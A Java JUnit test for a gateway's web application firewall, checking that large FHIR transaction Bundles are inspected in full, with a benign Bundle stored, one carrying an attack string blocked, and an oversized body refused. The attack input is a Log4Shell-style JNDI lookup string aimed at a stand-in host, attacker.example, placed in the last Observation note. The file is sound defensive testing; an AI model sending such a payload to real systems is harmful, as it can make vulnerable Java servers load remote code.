package io.bastion.gateway;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.bastion.testsupport.TestNode;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * Bodies larger than {@link LargeBodyInspection#INLINE_BYTES} (Bundles) are inspected whole on the WAF's workers:
 * a benign one passes, an attack anywhere in it is blocked, and one past waf.request-body-limit is refused.
 */
class WafLargeBodyTest {

  private static final Map<String, String> FHIR_JSON = Map.of("Content-Type", "application/fhir+json",
      "Accept", "application/fhir+json");
  private static final String JNDI = "${jndi:ldap://attacker.example/a}";

  @Test
  void largeBundlesAreInspectedWholeOffTheEventLoop() {
    // waf.request-body-limit at its default (1 MiB); the gateway reads bodies up to 2 MiB
    try (TestNode node = TestNode.startWithout(Map.of("http.max-body-bytes", "2097152"))) {
      String benign = transaction(400, null).encode();
      assertTrue(benign.length() > 200_000, "size " + benign.length());
      HttpResponse<Buffer> stored = node.send(HttpMethod.POST, "/fhir", FHIR_JSON, Buffer.buffer(benign));
      assertEquals(200, stored.statusCode(), stored.bodyAsString());
      assertEquals(400, stored.bodyAsJsonObject().getJsonArray("entry").size());

      // the attack in the last entry, far past the first 128 KiB: the whole body was read by the rules
      String attack = transaction(400, JNDI).encode();
      assertTrue(attack.indexOf("jndi") > 200_000, "at " + attack.indexOf("jndi"));
      HttpResponse<Buffer> blocked = node.send(HttpMethod.POST, "/fhir", FHIR_JSON, Buffer.buffer(attack));
      assertEquals(403, blocked.statusCode(), blocked.bodyAsString());
      assertEquals("forbidden", blocked.bodyAsJsonObject().getJsonArray("issue").getJsonObject(0).getString("code"));

      String tooLarge = benign + " ".repeat(1 << 20); // still valid JSON
      HttpResponse<Buffer> refused = node.send(HttpMethod.POST, "/fhir", FHIR_JSON, Buffer.buffer(tooLarge));
      assertEquals(413, refused.statusCode(), refused.bodyAsString());
      assertTrue(refused.bodyAsString().contains("larger than the firewall inspects (1048576 bytes)"),
          refused.bodyAsString());

      String metrics = node.get("/metrics").bodyAsString();
      assertTrue(metrics.contains("bastion_waf_requests_total{outcome=\"blocked\"} 2.0"), metrics);
      HttpResponse<Buffer> search = node.get("/fhir/Observation?code=http://loinc.org|8867-4&_summary=count");
      assertEquals(399, search.bodyAsJsonObject().getInteger("total"), "only the benign Bundle was stored");
    }
  }

  /** A transaction of one Patient and its Observations; {@code attack}, if given, in the last one's note. */
  private static JsonObject transaction(int entries, String attack) {
    String patient = "urn:uuid:" + UUID.randomUUID();
    JsonArray list = new JsonArray().add(new JsonObject().put("fullUrl", patient)
        .put("resource", new JsonObject().put("resourceType", "Patient")
            .put("name", new JsonArray().add(new JsonObject().put("family", "O'Brien"))))
        .put("request", new JsonObject().put("method", "POST").put("url", "Patient")));
    for (int i = 1; i < entries; i++) {
      String note = i == entries - 1 && attack != null ? attack
          : "Patient O'Brien said the pain was < 3/10 & improving; select a time to call back, see https://example.org/x?a=1";
      list.add(new JsonObject().put("fullUrl", "urn:uuid:" + UUID.randomUUID())
          .put("resource", new JsonObject().put("resourceType", "Observation").put("status", "final")
              .put("code", new JsonObject().put("coding", new JsonArray().add(new JsonObject()
                  .put("system", "http://loinc.org").put("code", "8867-4").put("display", "Heart rate"))))
              .put("subject", new JsonObject().put("reference", patient))
              .put("effectiveDateTime", "2024-01-01T10:00:00Z")
              .put("valueQuantity", new JsonObject().put("value", 60 + i % 40).put("unit", "/min")
                  .put("system", "http://unitsofmeasure.org").put("code", "/min"))
              .put("note", new JsonArray().add(new JsonObject().put("text", note)))
              .put("text", new JsonObject().put("status", "generated").put("div",
                  "<div xmlns=\"http://www.w3.org/1999/xhtml\">Heart rate <b>" + (60 + i % 40) + "</b>/min</div>")))
          .put("request", new JsonObject().put("method", "POST").put("url", "Observation")));
    }
    return new JsonObject().put("resourceType", "Bundle").put("type", "transaction").put("entry", list);
  }
}
